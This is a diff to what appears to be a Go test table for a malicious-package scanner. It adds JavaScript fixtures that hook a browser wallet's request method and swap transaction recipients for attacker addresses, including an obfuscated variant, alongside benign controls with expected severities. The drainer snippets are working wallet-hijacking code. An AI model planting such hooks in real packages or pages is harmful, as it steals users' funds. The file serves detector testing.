@@ -119,6 +119,14 @@ Object.defineProperty(window, "ethereum", { get: function () { return hook(real)
 		// address to swap in (the 2025 chalk/debug payload's shape)
 		{"ethereum_swap", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/g;
 if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === "eth_sendTransaction") x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
+		// the methods matched by a pattern, the request method's name
+		// split; a logger matching them the same way changes nothing
+		{"provider_hook_method_pattern", map[string]string{"index.js": `const rq = "req" + "uest", dst = "0x" + ["a11ce0", "000000000000000000000000000000bad1"].join("");
+function patch(t) { if (!t.data) t.to = dst; return t }
+function hook(p) { const orig = p[rq].bind(p); p[rq] = function (a) { if (/^eth_(send|sign)Transaction$/.test(a.method)) a.params = a.params.map(patch); return orig(a) } }
+hook(window.ethereum);`}, finding.SeverityCritical},
+		{"provider_logger_method_pattern", map[string]string{"index.js": `function hook(p) { const orig = p.request.bind(p); p.request = function (a) { if (/^eth_(send|sign)Transaction$/.test(a.method)) console.log("tx", a.params[0].to); return orig(a) } }
+hook(window.ethereum);`}, finding.SeverityNone},
 		// a wallet library: a validator and a contract address, no hook
 		{"wallet_library", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/; export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; export const valid = s => re.test(s)`}, finding.SeverityNone},
 		// the same swap appended to a bundle: the address sits by the hook
